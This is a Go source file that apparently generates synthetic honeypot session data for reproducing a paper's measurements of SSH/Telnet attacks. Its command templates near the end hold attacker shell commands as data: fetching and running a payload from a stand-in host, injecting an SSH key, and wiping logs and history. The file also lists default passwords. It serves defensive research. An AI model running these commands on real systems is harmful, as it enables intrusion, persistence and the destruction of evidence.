package workload

import (
	"fmt"
	"math"
	"math/rand"
	"runtime"
	"sync"
	"time"
	"unsafe"

	"honeyfarm/internal/analysis"
	"honeyfarm/internal/faults"
	"honeyfarm/internal/geo"
	"honeyfarm/internal/honeypot"
	"honeyfarm/internal/malware"
	"honeyfarm/internal/store"
)

// PaperTotalSessions is the paper's dataset size; the generator's scale
// factor is TotalSessions / PaperTotalSessions.
const PaperTotalSessions = 402_000_000

// PaperDays is the observation period length (2021-12-01 → 2023-03-31).
const PaperDays = 486

// CategoryShare is Table 1's top row: the fraction of all sessions per
// category.
var CategoryShare = [analysis.NumCategories]float64{
	analysis.NoCred:  0.277,
	analysis.FailLog: 0.42,
	analysis.NoCmd:   0.116,
	analysis.Cmd:     0.18,
	analysis.CmdURI:  0.007,
}

// SSHShare is Table 1's per-category protocol split: the fraction of
// each category's sessions that use SSH.
var SSHShare = [analysis.NumCategories]float64{
	analysis.NoCred:  0.2182,
	analysis.FailLog: 0.9924,
	analysis.NoCmd:   0.9830,
	analysis.Cmd:     0.9369,
	analysis.CmdURI:  0.6245,
}

// sessionsPerActorDay tunes how many category-c sessions one active
// client emits per day, which sets the daily-unique-IP levels of
// Figure 11 relative to the session totals.
var sessionsPerActorDay = [analysis.NumCategories]float64{
	analysis.NoCred:  3.0,
	analysis.FailLog: 4.0,
	analysis.NoCmd:   1.5,
	analysis.Cmd:     2.0,
	analysis.CmdURI:  1.5,
}

// Config parameterizes dataset generation.
type Config struct {
	Seed          int64
	TotalSessions int // default 400,000 (≈1/1000 of the paper)
	Days          int // default 486
	NumPots       int // default 221
	Registry      *geo.Registry
	Epoch         time.Time
	Spikes        []Spike // default DefaultSpikes()
	// Workers is the number of goroutines decorating planned sessions
	// into records (default GOMAXPROCS). The output is byte-identical
	// for every value: record noise comes from per-shard rand streams
	// derived from Seed and the shard index, and shards merge in index
	// order, so Workers only changes wall-clock time, never the dataset.
	Workers int
	// DisableCampaigns drops all hash campaigns (archetypes, Mirai
	// cluster, mid-tier), leaving only the generic background — the
	// ablation isolating how much of the paper's hash landscape is
	// campaign-driven.
	DisableCampaigns bool
	// Shares overrides Table 1's category mix (must sum to ≈1); nil
	// keeps the paper's calibration.
	Shares *[analysis.NumCategories]float64
	// SSHShares overrides the per-category SSH fraction; nil keeps the
	// paper's calibration.
	SSHShares *[analysis.NumCategories]float64
	// Faults, when non-nil and active, culls sessions the fault plan
	// would have lost: sessions on a pot inside an outage window, plus a
	// DropsSession share modeling refused/reset/stalled connections. The
	// cull draws only from the plan's own splitmix64 streams — never from
	// the planning RNG — so the surviving records are byte-identical to
	// the corresponding subset of the fault-free dataset.
	Faults *faults.Plan
}

// Result is a generated dataset plus its provenance.
type Result struct {
	Store  *store.Store
	Actors int
	// Tags maps every campaign hash to its tag, feeding the Tagger.
	Tags map[string]string
	// Deployments echoes placement for downstream analyses.
	Deployments []geo.Deployment
	// Faults reports per-pot downtime and drop counters when Config.Faults
	// was active; nil otherwise.
	Faults *faults.Report
}

// Tagger returns the hash tagger for this dataset.
func (r *Result) Tagger() analysis.Tagger {
	return analysis.Tagger(malware.NewTagger(r.Tags))
}

// recentHash is one reuse-pool entry: a hash and the honeypot it was
// first dropped on (reuse prefers the same honeypot, keeping most tail
// hashes honeypot-local).
type recentHash struct {
	hash string
	pot  int
}

// Plan-entry kinds. The planning pass resolves everything that needs
// shared generator state — actor identity, honeypot choice, file-hash
// reuse, campaign cursors — into one of these; the decoration pass then
// fills in pure per-record noise from an isolated shard rand stream.
const (
	kindGeneric uint8 = iota
	kindCompanion
	kindCampaign
	kindCampaignFail
)

// planned is one scheduled session awaiting decoration. It pins the
// state-coupled identity of the record (who, where, which day, which
// hashes, which campaign); the decorator fills in everything whose
// distribution is independent per record (protocol, port, timestamps,
// credential lists, durations).
type planned struct {
	kind uint8
	cat  analysis.Category
	day  int
	pot  int
	ip   string
	// start anchors campaign records: the intrusion's start is drawn in
	// the plan because its FAIL_LOG precursor — possibly decorated in a
	// different shard — must start minutes before it.
	start time.Time
	camp  *campaign
	// hashes are the file hashes of a generic CMD/CMD+URI session,
	// resolved in the plan because the reuse pool is shared state.
	hashes []string
}

// generator carries the planning-pass state. Everything mutable in here
// is owned by the single sequential planning goroutine; the decoration
// workers only read cfg, shares and the plan shards handed to them, and
// hand entry buffers back through free.
type generator struct {
	cfg       Config
	shares    [analysis.NumCategories]float64
	sshShares [analysis.NumCategories]float64
	rng       *rand.Rand
	pop       *population

	// cur is the plan shard being appended to; shards holds every shard
	// handed to the decorators through work, in plan order. Decorated
	// shards return their entry buffers through free for reuse.
	cur    []planned
	shards []*planShard
	work   chan<- *planShard
	free   chan []planned

	hashPots  *Sampler         // pot bias for file-creating sessions
	spikeSets map[string][]int // per-spike pot subsets

	recentHashes []recentHash // reuse pool for generic file sessions
	tailSeq      int
	tags         map[string]string

	deployments []geo.Deployment
	// potsByCountry / potsByContinent index honeypots by location for the
	// CMD+URI locality bias (Figure 16(b): sessions with URIs show more
	// geographic proximity between client and honeypot).
	potsByCountry   map[string][]int
	potsByContinent map[geo.Continent][]int
}

// Generate produces a calibrated synthetic dataset. All randomness
// derives from cfg.Seed: the planning pass draws from one stream seeded
// by it, and it anchors the derived sub-streams that must stay aligned
// with the farm: honeypot placement, the per-honeypot weight
// permutations, and the per-shard decoration streams.
//
// Generation runs as a pipeline of two passes. A sequential planning
// pass walks the calibrated schedule and resolves every decision that
// touches shared state (actor pools, honeypot cursors, the file-hash
// reuse pool, campaign rotation) into plan entries, cut into fixed-size
// shards. Each shard goes to cfg.Workers decorating goroutines the moment
// its last entry is appended — planned entries are never written again —
// so decoration runs while planning continues. A decorator expands the
// shard into session records from the shard's own rand stream seeded by
// (Seed, shard index), discards those the fault plan culls, and hands
// the shard's entry buffer back for reuse, so only the shards in flight
// hold plan entries. The shards then fill the store in index
// order, so the serialized dataset is byte-identical for any worker
// count, including 1.
func Generate(cfg Config) (*Result, error) {
	rng := rand.New(rand.NewSource(cfg.Seed))
	if cfg.Registry == nil {
		return nil, fmt.Errorf("workload: Config.Registry is required")
	}
	if err := cfg.Faults.Validate(); err != nil {
		return nil, fmt.Errorf("workload: %w", err)
	}
	if cfg.TotalSessions <= 0 {
		cfg.TotalSessions = 400_000
	}
	if cfg.Days <= 0 {
		cfg.Days = PaperDays
	}
	if cfg.NumPots <= 0 {
		cfg.NumPots = 221
	}
	// An outage on no pot of the farm, or one that starts after the
	// period, downs nothing; refuse it rather than report full uptime.
	// A window that only runs past the period is clipped (NewReport).
	if cfg.Faults != nil {
		for i, o := range cfg.Faults.Outages {
			if o.Pot >= cfg.NumPots {
				return nil, fmt.Errorf("workload: outage %d: pot %d outside the farm's %d pots (0..%d)", i, o.Pot, cfg.NumPots, cfg.NumPots-1)
			}
			if o.FirstDay >= cfg.Days {
				return nil, fmt.Errorf("workload: outage %d: first_day %d outside the %d-day period (0..%d)", i, o.FirstDay, cfg.Days, cfg.Days-1)
			}
		}
	}
	if cfg.Epoch.IsZero() {
		cfg.Epoch = time.Date(2021, 12, 1, 0, 0, 0, 0, time.UTC)
	}
	if cfg.Spikes == nil {
		cfg.Spikes = DefaultSpikes()
	}
	if cfg.Workers <= 0 {
		cfg.Workers = runtime.GOMAXPROCS(0)
	}

	base := VisibilityWeights(cfg.NumPots)
	shares := CategoryShare
	if cfg.Shares != nil {
		shares = *cfg.Shares
	}
	sshShares := SSHShare
	if cfg.SSHShares != nil {
		sshShares = *cfg.SSHShares
	}
	g := &generator{
		cfg:       cfg,
		shares:    shares,
		sshShares: sshShares,
		rng:       rng,
		// Distinct permutations: the honeypots with the most sessions are
		// NOT the ones with the most clients or hashes (Sections 7.5, 8.4).
		hashPots:  NewSampler(Permuted(base, cfg.Seed+202)),
		spikeSets: make(map[string][]int),
		tags:      make(map[string]string),
	}
	g.pop = newPopulation(rng, cfg.Registry, cfg.NumPots, cfg.Days, Permuted(base, cfg.Seed+101))

	deployments, err := geo.Place(geo.PlacementConfig{
		Seed: cfg.Seed, NumPots: cfg.NumPots,
		Registry: cfg.Registry, Residental: true,
	})
	if err != nil {
		return nil, fmt.Errorf("workload: placement: %w", err)
	}

	g.deployments = deployments
	g.potsByCountry = make(map[string][]int)
	g.potsByContinent = make(map[geo.Continent][]int)
	for _, dep := range deployments {
		if loc, ok := cfg.Registry.Lookup(dep.IP); ok {
			g.potsByCountry[loc.Country] = append(g.potsByCountry[loc.Country], dep.ID)
			g.potsByContinent[loc.Continent] = append(g.potsByContinent[loc.Continent], dep.ID)
		}
	}

	var campaigns []*campaign
	if !cfg.DisableCampaigns {
		campaigns = g.buildCampaigns()
	}
	// Subtract expected campaign volume from the generic category quotas
	// so Table 1's aggregate shares still hold.
	var campaignSessions [analysis.NumCategories]int
	for _, c := range campaigns {
		campaignSessions[c.category] += c.sessions
		// 40% of campaign sessions carry a FAIL_LOG precursor.
		campaignSessions[analysis.FailLog] += c.sessions * 2 / 5
	}

	// Expected FAIL_LOG companion volume from ephemeral scanners (see
	// actorFor) is pre-deducted from the FAIL_LOG budget.
	ephemeralFailLog := int(0.12 * 0.3 * float64(cfg.TotalSessions) * shares[analysis.NoCred])
	campaignSessions[analysis.FailLog] += ephemeralFailLog

	st, report := g.pipeline(func() {
		// Generation order matters: FAIL_LOG and CMD run first so that
		// the crossover picks building multi-role clients (Section 7.5)
		// find populated pools.
		order := []analysis.Category{analysis.FailLog, analysis.Cmd, analysis.NoCred, analysis.NoCmd, analysis.CmdURI}
		for _, c := range order {
			total := int(float64(cfg.TotalSessions)*shares[c]) - campaignSessions[c]
			if total < 0 {
				total = 0
			}
			g.planGeneric(c, total, cfg.Days)
		}
		for _, c := range campaigns {
			g.planCampaign(c)
		}
	})

	return &Result{
		Store:       st,
		Actors:      g.pop.actors,
		Tags:        g.tags,
		Deployments: deployments,
		Faults:      report,
	}, nil
}

// planGeneric schedules the non-campaign sessions of one category.
func (g *generator) planGeneric(c analysis.Category, total, days int) {
	if total <= 0 {
		return
	}
	norm := envelopeMean(c, days)
	share := 1.0 / norm // normalize envelope so the period total ≈ total
	for d := 0; d < days; d++ {
		n, spikePots := dailyQuota(g.rng, total, share, c, d, days, g.cfg.Spikes)
		var spikeSet []int
		if spikePots > 0 {
			spikeSet = g.spikeSet(c, spikePots)
		}
		target := int(float64(n)/sessionsPerActorDay[c]) + 1
		for i := 0; i < n; i++ {
			a := g.actorFor(c, d, target)
			set := spikeSet
			// Only the spike surplus routes to the spike subset; the
			// baseline stays spread out.
			if set != nil && g.rng.Float64() < 0.3 {
				set = nil
			}
			g.planSession(c, d, a, set)
		}
	}
}

// actorFor picks the session's client. NO_CMD's start/end windows route
// to the dedicated datacenter prefix (Section 6: "a single prefix
// originates most of these sessions ... a Russian datacenter"); other
// sessions sometimes reuse a client from a different category's pool,
// which is what makes >40% of IPs multi-category (Section 7.5: 222k of
// the 450k CMD clients also run FAIL_LOG sessions).
func (g *generator) actorFor(c analysis.Category, d, target int) *actor {
	if c == analysis.NoCmd && (d < 60 || d > g.cfg.Days-90) && g.rng.Float64() < 0.7 {
		return g.pop.ruActor()
	}
	if alt, p := crossSource(c); p > 0 && g.rng.Float64() < p {
		if a := g.pop.fromPool(alt, d, g.rng); a != nil {
			return a
		}
	}
	// Scouting also reuses the day's scanners: the scan→brute-force
	// pipeline runs from the same compromised hosts.
	if c == analysis.FailLog && g.rng.Float64() < 0.30 {
		if a := g.pop.fromPool(analysis.NoCred, d, g.rng); a != nil {
			return a
		}
	}
	// A slice of scans comes from throwaway one-day clients; a third of
	// them also try credentials the same day (scan → brute-force).
	if c == analysis.NoCred && g.rng.Float64() < 0.12 {
		a := g.pop.newEphemeral(d, c)
		if g.rng.Float64() < 0.3 {
			g.emit(planned{
				kind: kindCompanion, cat: analysis.FailLog, day: d,
				pot: a.pots[0], ip: a.ip,
			})
		}
		return a
	}
	return g.pop.pick(c, d, target)
}

// crossSource returns the category whose clients category c borrows
// from, and how often.
func crossSource(c analysis.Category) (analysis.Category, float64) {
	switch c {
	case analysis.NoCred:
		return analysis.FailLog, 0.40
	case analysis.FailLog:
		return analysis.Cmd, 0.35
	case analysis.Cmd:
		return analysis.FailLog, 0.50
	case analysis.NoCmd:
		return analysis.FailLog, 0.20
	case analysis.CmdURI:
		return analysis.Cmd, 0.30
	}
	return c, 0
}

// spikeSet returns (and caches) the honeypot subset targeted by a spike.
func (g *generator) spikeSet(c analysis.Category, n int) []int {
	key := fmt.Sprintf("%d/%d", c, n)
	if set, ok := g.spikeSets[key]; ok {
		return set
	}
	set := g.pop.pots.SampleK(g.rng, n)
	g.spikeSets[key] = set
	return set
}

// planSession schedules one generic session of category c: honeypot
// choice (cursor-coupled) and file hashes (reuse-pool-coupled) are
// resolved now; the rest decorates later.
func (g *generator) planSession(c analysis.Category, day int, a *actor, spikeSet []int) {
	pot := g.pop.potFor(a, g.rng, spikeSet)
	// File-creating sessions concentrate on a different honeypot head
	// than raw session volume: the paper finds the hash-richest honeypots
	// are not the busiest ones (Section 8.4).
	if (c == analysis.Cmd || c == analysis.CmdURI) && g.rng.Float64() < 0.45 {
		pot = g.hashPots.Sample(g.rng)
	}
	// CMD+URI clients pick targets closer to home (Figure 16(b)):
	// "geographic locality may matter more when clients start picking
	// targets for specific tasks".
	if c == analysis.CmdURI {
		pot = g.localizePot(a, pot)
	}
	p := planned{kind: kindGeneric, cat: c, day: day, ip: a.ip}
	switch c {
	case analysis.Cmd:
		if g.rng.Float64() < 1.0/3.0 {
			// "about one third [of command sessions] create or modify
			// files" (Section 6).
			hash, override := g.genericFile(day, pot)
			if override >= 0 {
				pot = override
			}
			p.hashes = append(p.hashes, hash)
			if g.rng.Float64() < 0.015 {
				extra, _ := g.genericFile(day, pot)
				p.hashes = append(p.hashes, extra)
			}
		}
	case analysis.CmdURI:
		hash, override := g.genericFile(day, pot)
		if override >= 0 {
			pot = override
		}
		p.hashes = append(p.hashes, hash)
	}
	p.pot = pot
	g.emit(p)
}

// localizePot redirects a session toward a honeypot in the client's
// country (25%) or continent (30%) when the farm has one there.
func (g *generator) localizePot(a *actor, pot int) int {
	if a.country < 0 || a.country >= len(g.cfg.Registry.Countries()) {
		return pot
	}
	country := g.cfg.Registry.Countries()[a.country]
	r := g.rng.Float64()
	if r < 0.25 {
		if pots := g.potsByCountry[country.Code]; len(pots) > 0 {
			return pots[g.rng.Intn(len(pots))]
		}
	}
	if r < 0.55 {
		if pots := g.potsByContinent[country.Continent]; len(pots) > 0 {
			return pots[g.rng.Intn(len(pots))]
		}
	}
	return pot
}

// genericFile resolves the file hash of a generic command session: half
// the time a brand-new single-observation hash (the long tail that
// makes >60% of hashes honeypot-local), otherwise a recently seen one —
// which prefers the honeypot it first landed on. The second return is
// the honeypot override (-1 for none).
func (g *generator) genericFile(day, pot int) (string, int) {
	var hash string
	override := -1
	if len(g.recentHashes) == 0 || g.rng.Float64() < 0.4 {
		g.tailSeq++
		hash = malware.SyntheticHash(fmt.Sprintf("tail-%d-%d", day, g.tailSeq))
		g.recentHashes = append(g.recentHashes, recentHash{hash: hash, pot: pot})
		if len(g.recentHashes) > 60 {
			g.recentHashes = g.recentHashes[len(g.recentHashes)-60:]
		}
	} else {
		// Bias reuse toward the most recent hashes so reuse decays over
		// a few days, as Figure 17's 7-day freshness implies.
		n := len(g.recentHashes)
		idx := n - 1 - int(math.Floor(float64(n)*math.Pow(g.rng.Float64(), 3)))
		if idx < 0 {
			idx = 0
		}
		entry := g.recentHashes[idx]
		hash = entry.hash
		if g.rng.Float64() < 0.75 {
			override = entry.pot // repeat drop on the same honeypot
		}
	}
	return hash, override
}

// ---- decoration: the parallel phase ----

// decorateShardSize is the fixed plan-shard length. It is independent
// of Workers on purpose: shard boundaries (and hence each record's rand
// stream) depend only on the plan, so every worker count decorates the
// identical dataset.
const decorateShardSize = 4096

// planShard is decorateShardSize consecutive plan entries — fewer for the
// last — and, once a decorator is done with it, their surviving records.
type planShard struct {
	index   int
	entries []planned // nil once decorated
	recs    []honeypot.SessionRecord
}

// shardSeed derives shard i's rand seed from the root seed with a
// splitmix64-style mix, so neighboring shards get uncorrelated streams.
func shardSeed(seed int64, shard int) int64 {
	z := uint64(seed) + 0x9e3779b97f4a7c15*(uint64(shard)+1)
	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9
	z = (z ^ (z >> 27)) * 0x94d049bb133111eb
	return int64(z ^ (z >> 31))
}

// emit appends one entry to the plan, handing the current shard to the
// decorators once it is full.
func (g *generator) emit(p planned) {
	if g.cur == nil {
		select {
		case buf := <-g.free:
			g.cur = buf
		default:
			g.cur = make([]planned, 0, decorateShardSize)
		}
	}
	g.cur = append(g.cur, p)
	if len(g.cur) == decorateShardSize {
		g.flush()
	}
}

// flush hands the current shard, if it holds any entry, to the
// decorators. The planner never touches it again.
func (g *generator) flush() {
	if len(g.cur) == 0 {
		return
	}
	sh := &planShard{index: len(g.shards), entries: g.cur}
	g.shards = append(g.shards, sh)
	g.cur = nil
	g.work <- sh
}

// pipeline runs plan on the calling goroutine while cfg.Workers
// goroutines decorate every shard it emits, then fills a store with the
// shards in index order. Workers only pick which goroutine decorates a
// shard, never what it holds. The fault report sums the per-shard cull
// counts, so it too is the same for any interleaving.
func (g *generator) pipeline(plan func()) (*store.Store, *faults.Report) {
	var report *faults.Report
	if g.cfg.Faults.Active() {
		report = faults.NewReport(g.cfg.Faults, g.cfg.NumPots, g.cfg.Days)
	}
	var mu sync.Mutex // guards report
	work := make(chan *planShard, g.cfg.Workers)
	var wg sync.WaitGroup
	for w := 0; w < g.cfg.Workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			var sl slabs
			for sh := range work {
				lost := g.decorateShard(sh, &sl)
				if lost != nil {
					mu.Lock()
					report.AddDrops(lost)
					mu.Unlock()
				}
			}
		}()
	}
	g.work, g.free = work, make(chan []planned, 2*g.cfg.Workers+1)
	plan()
	g.flush()
	close(work)
	wg.Wait()
	total := 0
	for _, sh := range g.shards {
		total += len(sh.recs)
	}
	recs := make([]*honeypot.SessionRecord, 0, total)
	for _, sh := range g.shards {
		for i := range sh.recs {
			recs = append(recs, &sh.recs[i])
		}
	}
	g.shards = nil
	st := store.New(g.cfg.Epoch)
	st.AddBatch(recs)
	return st, report
}

// decorateShard turns a plan shard into its surviving records, drawn
// from the shard's derived rand stream, and releases its plan entries.
// Record IDs are the 1-based plan indexes, so they are stable under any
// worker count.
//
// The records are written in place into one slab of len(entries)
// records, and their logins and files are carved from sl, the
// decorating worker's slabs; see slab. Keeping one generated record
// therefore keeps its shard's record slab and the chunks its slices
// came from. Every consumer keeps the whole store anyway.
//
// The fault plan culls an entry when its pot is inside an outage window
// or the DropsSession share standing in for refused/reset/stalled
// connections takes it. That decision depends only on (plan seed, plan
// index, pot, day) — never on the planning RNG — and a culled entry is
// still decorated, keeping the shard's rand stream, and therefore every
// surviving record, byte-identical to the fault-free run. Its slot is
// then zeroed and reused for the next entry. The returned report holds
// the shard's drop counts; nil when no fault plan is active.
func (g *generator) decorateShard(sh *planShard, sl *slabs) *faults.Report {
	plan := g.cfg.Faults
	var lost *faults.Report
	if plan.Active() {
		lost = faults.NewReport(nil, g.cfg.NumPots, 0)
	}
	rng := rand.New(rand.NewSource(shardSeed(g.cfg.Seed, sh.index)))
	recs := make([]honeypot.SessionRecord, len(sh.entries))
	n := 0
	lo := sh.index * decorateShardSize
	for j := range sh.entries {
		p, i, rec := &sh.entries[j], lo+j, &recs[n]
		rec.ID = uint64(i) + 1
		g.decorateOne(rng, p, rec, sl)
		if lost != nil {
			if plan.PotDown(p.pot, p.day) {
				lost.AddDowntimeDrop(p.pot)
				*rec = honeypot.SessionRecord{}
				continue
			}
			if plan.DropsSession(uint64(i)) {
				lost.AddConnDrop(p.pot)
				*rec = honeypot.SessionRecord{}
				continue
			}
		}
		n++
	}
	select {
	case g.free <- sh.entries[:0]:
	default:
	}
	sh.entries, sh.recs = nil, recs[:n]
	return lost
}

// slabBytes is the size of one slab refill: 32 KiB, the largest
// small-object allocation, so a refill skips the large-object path.
const slabBytes = 32 << 10

// slab hands out consecutive runs of one backing array, so the short
// slices of many records cost one allocation per chunk instead of one
// per record. Keeping any one run keeps the whole chunk alive.
type slab[T any] struct {
	free []T
}

// take returns n zeroed elements whose capacity is their length, so an
// append by their record copies instead of writing over the next run.
// A slab too short for n is replaced by a chunk of slabBytes' worth of
// elements (n if that is more).
func (s *slab[T]) take(n int) []T {
	if n > len(s.free) {
		var zero T
		s.free = make([]T, max(n, slabBytes/int(unsafe.Sizeof(zero))))
	}
	out := s.free[:n:n]
	s.free = s.free[n:]
	return out
}

// slabs are what one decorating worker carves record slices from. They
// carry over from one shard to the next, so a shard does not end on a
// partly used chunk of its own.
type slabs struct {
	logins slab[honeypot.LoginAttempt]
	files  slab[honeypot.FileRecord]
}

// decorateOne fills rec, whose ID is set, from one planned session,
// drawing all per-record noise from the shard stream. The decorators
// set rec's fields one at a time: rec is a zeroed slab slot, and
// assigning a whole SessionRecord would copy it behind a bulk write
// barrier.
func (g *generator) decorateOne(rng *rand.Rand, p *planned, rec *honeypot.SessionRecord, sl *slabs) {
	switch p.kind {
	case kindCompanion:
		g.decorateCompanion(rng, p, rec, sl)
	case kindCampaign:
		g.decorateCampaign(rng, p, rec, sl)
	case kindCampaignFail:
		decorateCampaignFail(rng, p, rec, sl)
	default:
		g.decorateGeneric(rng, p, rec, sl)
	}
}

// dayStart draws a uniform timestamp within the planned day.
func (g *generator) dayStart(rng *rand.Rand, day int) time.Time {
	return g.cfg.Epoch.Add(time.Duration(day)*24*time.Hour +
		time.Duration(rng.Int63n(int64(24*time.Hour))))
}

// payloadURIs are the generic CMD+URI sessions' download URIs, each a
// one-element slice shared by every record that fetched it, as the
// command templates are.
var payloadURIs = func() [][]string {
	uris := make([][]string, 500)
	for i := range uris {
		uris[i] = []string{fmt.Sprintf("http://dl-%d.example/payload", i)}
	}
	return uris
}()

// decorateGeneric fills rec as one generic session of category p.cat.
func (g *generator) decorateGeneric(rng *rand.Rand, p *planned, rec *honeypot.SessionRecord, sl *slabs) {
	c := p.cat
	proto := honeypot.Telnet
	if rng.Float64() < g.sshShares[c] {
		proto = honeypot.SSH
	}
	start := g.dayStart(rng, p.day)
	rec.HoneypotID = p.pot
	rec.Protocol = proto
	rec.ClientIP = p.ip
	rec.ClientPort = 1024 + rng.Intn(60000)
	rec.Start = start
	if proto == honeypot.SSH {
		rec.ClientVersion = clientVersions[rng.Intn(len(clientVersions))]
	}
	var dur time.Duration
	switch c {
	case analysis.NoCred:
		dur, rec.Termination = noCredEnding(rng)
	case analysis.FailLog:
		rec.Logins = failedLogins(rng, &sl.logins)
		if len(rec.Logins) >= 3 {
			rec.Termination = honeypot.TermAuthFailure
		} else {
			rec.Termination = honeypot.TermClient
		}
		dur = time.Duration((2 + rng.ExpFloat64()*8) * float64(time.Second))
		if dur > 59*time.Second {
			dur = 59 * time.Second
		}
	case analysis.NoCmd:
		rec.Logins = successfulLogin(rng, &sl.logins)
		if rng.Float64() < 0.92 {
			// >90% of NO_CMD sessions end in the 3-minute timeout.
			rec.Termination = honeypot.TermTimeout
			dur = 180*time.Second + time.Duration(rng.Int63n(int64(6*time.Second)))
		} else {
			rec.Termination = honeypot.TermClient
			dur = time.Duration(10+rng.Intn(160)) * time.Second
		}
	case analysis.Cmd:
		rec.Logins = successfulLogin(rng, &sl.logins)
		rec.Commands = genericCommands(rng)
		if len(p.hashes) > 0 {
			rec.Files = fileRecords(rng, p.hashes, &sl.files)
		}
		if rng.Float64() < 0.12 {
			rec.Termination = honeypot.TermTimeout
			dur = 180 * time.Second
		} else {
			rec.Termination = honeypot.TermExit
			dur = time.Duration((10 + rng.ExpFloat64()*30) * float64(time.Second))
			if dur > 178*time.Second {
				dur = 178 * time.Second
			}
		}
	case analysis.CmdURI:
		rec.Logins = successfulLogin(rng, &sl.logins)
		rec.Commands = downloadCommands
		rec.URIs = payloadURIs[rng.Intn(len(payloadURIs))]
		rec.Files = fileRecords(rng, p.hashes, &sl.files)
		dur = time.Duration((30 + rng.ExpFloat64()*60) * float64(time.Second))
		if rng.Float64() < 0.15 {
			// URI retrieval resets the timeout: these sessions exceed the
			// 3-minute mark (Figure 7).
			dur = 180*time.Second + time.Duration(rng.ExpFloat64()*float64(120*time.Second))
		}
		rec.Termination = honeypot.TermExit
	}
	rec.End = start.Add(dur)
}

// decorateCompanion fills rec as the credential-guessing session an
// ephemeral scanner runs right after its port probe.
func (g *generator) decorateCompanion(rng *rand.Rand, p *planned, rec *honeypot.SessionRecord, sl *slabs) {
	start := g.dayStart(rng, p.day)
	rec.HoneypotID = p.pot
	rec.Protocol = honeypot.SSH
	rec.ClientIP = p.ip
	rec.ClientPort = 1024 + rng.Intn(60000)
	rec.Start = start
	rec.ClientVersion = clientVersions[rng.Intn(len(clientVersions))]
	rec.Logins = failedLogins(rng, &sl.logins)
	rec.Termination = honeypot.TermClient
	rec.End = start.Add(time.Duration(3+rng.Intn(25)) * time.Second)
}

// fileRecords materializes planned file hashes as file records carved
// from files.
func fileRecords(rng *rand.Rand, hashes []string, files *slab[honeypot.FileRecord]) []honeypot.FileRecord {
	out := files.take(len(hashes))
	for i, h := range hashes {
		out[i] = honeypot.FileRecord{
			Path: "/var/tmp/.x", Hash: h, Op: "create", Size: 64 + rng.Intn(4096),
		}
	}
	return out
}

// noCredEnding draws the duration/termination of a scan session:
// mostly client-closed within seconds, a fraction idling into the
// pre-auth timeout (Figure 7's first dashed line).
func noCredEnding(rng *rand.Rand) (time.Duration, honeypot.Termination) {
	if rng.Float64() < 0.15 {
		return 60 * time.Second, honeypot.TermTimeout
	}
	d := time.Duration((0.5 + rng.ExpFloat64()*4) * float64(time.Second))
	if d > 59*time.Second {
		d = 59 * time.Second
	}
	return d, honeypot.TermClient
}

var clientVersions = []string{
	"SSH-2.0-libssh2_1.8.0",
	"SSH-2.0-Go",
	"SSH-2.0-PUTTY",
	"SSH-2.0-libssh-0.6.3",
	"SSH-2.0-OpenSSH_7.3",
	"SSH-2.0-sshlib-0.1",
	"SSH-2.0-8.36 FlowSsh",
	"SSH-2.0-MGLNDD_22_SSH",
}

// Table 2: the ten most used successful passwords.
var topPasswords = []string{
	"admin", "1234", "3245gs5662d34", "dreambox", "vertex25ektks123",
	"12345", "h3c", "1qaz2wsx3edc", "passw0rd", "GM8182",
}

var extraPasswords = []string{
	"password", "123456", "default", "support", "system", "letmein",
	"qwerty", "abc123", "toor", "changeme", "raspberry", "ubnt",
}

// Most-attempted non-root usernames (Section 6).
var failUsers = []string{"nproc", "admin", "user", "test", "ubuntu", "oracle", "postgres", "git", "ftp", "guest"}

// successfulLogin draws the credential list of a logged-in session:
// possibly failed attempts first, then a success with a Table 2-shaped
// password (Zipf over the top list plus a random tail). The attempts
// are drawn into a stack buffer, then copied into a run of logins.
func successfulLogin(rng *rand.Rand, logins *slab[honeypot.LoginAttempt]) []honeypot.LoginAttempt {
	var buf [3]honeypot.LoginAttempt
	n := 0
	for rng.Float64() < 0.25 && n < 2 {
		buf[n] = honeypot.LoginAttempt{
			User: "root", Password: extraPasswords[rng.Intn(len(extraPasswords))],
		}
		n++
	}
	var pw string
	if rng.Float64() < 0.8 {
		// Zipf over the top-10 list.
		rank := int(math.Floor(10 * math.Pow(rng.Float64(), 2.2)))
		if rank > 9 {
			rank = 9
		}
		pw = topPasswords[rank]
	} else {
		pw = extraPasswords[rng.Intn(len(extraPasswords))]
	}
	buf[n] = honeypot.LoginAttempt{User: "root", Password: pw, Success: true}
	n++
	out := logins.take(n)
	copy(out, buf[:n])
	return out
}

// failedLogins draws a FAIL_LOG session's attempts, carved from logins:
// wrong usernames or root:root, one to three tries.
func failedLogins(rng *rand.Rand, logins *slab[honeypot.LoginAttempt]) []honeypot.LoginAttempt {
	out := logins.take(1 + rng.Intn(3))
	for i := range out {
		if rng.Float64() < 0.35 {
			out[i] = honeypot.LoginAttempt{User: "root", Password: "root"}
		} else {
			out[i] = honeypot.LoginAttempt{
				User:     failUsers[rng.Intn(len(failUsers))],
				Password: extraPasswords[rng.Intn(len(extraPasswords))],
			}
		}
	}
	return out
}

// Shared command templates (Table 3's population): recon, credential
// manipulation, key injection, script execution. Slices are shared
// across records; analyses only read them.
var (
	reconCommands = []honeypot.CommandRecord{
		{Input: "uname -a", Known: true},
		{Input: "cat /proc/cpuinfo", Known: true},
		{Input: "grep name", Known: true},
		{Input: "wc -l", Known: true},
		{Input: "free -m", Known: true},
	}
	reconShort = []honeypot.CommandRecord{
		{Input: "uname -s -v -n -r -m", Known: true},
		{Input: "w", Known: true},
	}
	credCommands = []honeypot.CommandRecord{
		{Input: "passwd root", Known: true},
		{Input: "chpasswd", Known: true},
	}
	keyInjectCommands = []honeypot.CommandRecord{
		{Input: "mkdir -p .ssh", Known: true},
		{Input: `echo "ssh-rsa AAAAB3NzaC1yc2E" >> .ssh/authorized_keys`, Known: true},
		{Input: "chmod 700 .ssh", Known: true},
	}
	historyWipe = []honeypot.CommandRecord{
		{Input: "export HISTFILE=/dev/null", Known: true},
		{Input: "history -c", Known: true},
		{Input: "rm -rf /var/log/wtmp", Known: true},
	}
	downloadCommands = []honeypot.CommandRecord{
		{Input: "cd /tmp", Known: true},
		{Input: "wget http://update.example/payload", Known: true},
		{Input: "chmod 777 payload", Known: true},
		{Input: "./payload", Known: false},
	}
	miraiProbe = []honeypot.CommandRecord{
		{Input: "enable", Known: true},
		{Input: "shell", Known: true},
		{Input: "sh", Known: true},
		{Input: "/bin/busybox ECCHI", Known: true},
	}
	genericTemplates = [][]honeypot.CommandRecord{
		reconCommands, reconShort, credCommands, keyInjectCommands, historyWipe, miraiProbe,
	}
)

